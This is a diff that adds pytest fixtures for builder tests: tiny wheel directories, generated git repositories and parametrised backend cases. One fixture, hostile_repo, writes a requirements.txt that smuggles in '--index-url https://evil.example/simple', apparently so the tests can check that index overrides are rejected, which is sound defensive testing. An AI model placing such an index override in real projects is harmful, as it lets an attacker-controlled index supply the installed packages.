@@ -1,0 +1,44 @@
+"""Fixtures of the builder tests: tiny wheels, git repositories, and the backend cases."""
+
+from __future__ import annotations
+
+import importlib
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+
+from .cases import BACKENDS, BackendCase
+from .gitrepos import Repo, make_repo
+from .wheels import tiny_index
+
+
+@pytest.fixture(scope="session")
+def wheels(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A find-links directory of tiny wheels (see `wheels.tiny_index`)."""
+    return tiny_index(tmp_path_factory.mktemp("wheels"))
+
+
+@pytest.fixture(scope="session")
+def notebook_repo(tmp_path_factory: pytest.TempPathFactory) -> Repo:
+    """A repository with a notebook and ``ovtiny==1.0`` in its requirements.txt."""
+    return make_repo(
+        tmp_path_factory.mktemp("git") / "demo",
+        "# what the demo needs\novtiny==1.0  # pinned\n\n",
+    )
+
+
+@pytest.fixture(scope="session")
+def hostile_repo(tmp_path_factory: pytest.TempPathFactory) -> Repo:
+    """A repository whose requirements.txt tries to pick the package index."""
+    return make_repo(
+        tmp_path_factory.mktemp("git") / "hostile",
+        "ovtiny==1.0\n--index-url https://evil.example/simple\n",
+    )
+
+
+@pytest.fixture(params=BACKENDS)
+async def backend_case(request: pytest.FixtureRequest) -> AsyncIterator[BackendCase]:
+    module = importlib.import_module(f"{__package__}.cases.{request.param}")
+    async with module.case(request) as case:
+        yield case
